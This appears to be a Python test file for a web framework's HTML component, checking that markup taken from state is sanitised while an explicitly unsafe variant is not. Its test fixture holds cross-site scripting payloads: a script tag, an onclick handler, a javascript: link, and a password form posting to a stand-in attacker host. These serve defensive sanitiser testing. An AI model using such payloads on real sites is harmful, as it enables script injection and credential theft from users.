"""`rx.html` on a test's page: what is written is as it is, what comes from state is what a browser has left of it."""

import mirra as rx
from mirra.testing import connect

HOSTILE = (
    "<p>Dear <b onclick='canary()'>reader</b></p><script>canary()</script><style>* { display: none }</style>"
    "<a href='javascript:canary()' id='x'>here</a><form action='//evil.example'><input name='password'>sign in</form>"
)


def shown(how):
    class Letter(rx.State):
        body: str = HOSTILE

    return lambda: rx.box(how(Letter.body), id="letter")


async def test_markup_that_is_written_is_there_as_it_is() -> None:
    async with connect(lambda: rx.html("<form><input name='q' id='q'></form><p>Find</p>")) as page:
        await page.see("Find")
        assert await page.attribute("#q", "name") == "q"


async def test_markup_from_state_is_cleaned() -> None:
    async with connect(shown(rx.html)) as page:
        assert await page.text("#letter") == "Dear reader heresign in"
        assert await page.attribute("#user-content-x", "href") is None


async def test_unsafe_markup_says_so_and_is_not_cleaned() -> None:
    async with connect(shown(rx.unsafe_html)) as page:
        assert await page.attribute("#x", "href") == "javascript:canary()"


async def test_what_a_wrapped_element_has_inside_is_cleaned_too() -> None:
    class Raw(rx.Component):
        tag = "section"
        dangerously_set_inner_html: rx.Var[dict[str, str]]
        _rename_props = {"dangerouslySetInnerHtml": "dangerouslySetInnerHTML"}

    async with connect(shown(lambda text: Raw.create(dangerously_set_inner_html={"__html": text}))) as page:
        assert await page.text("#letter") == "Dear reader heresign in"
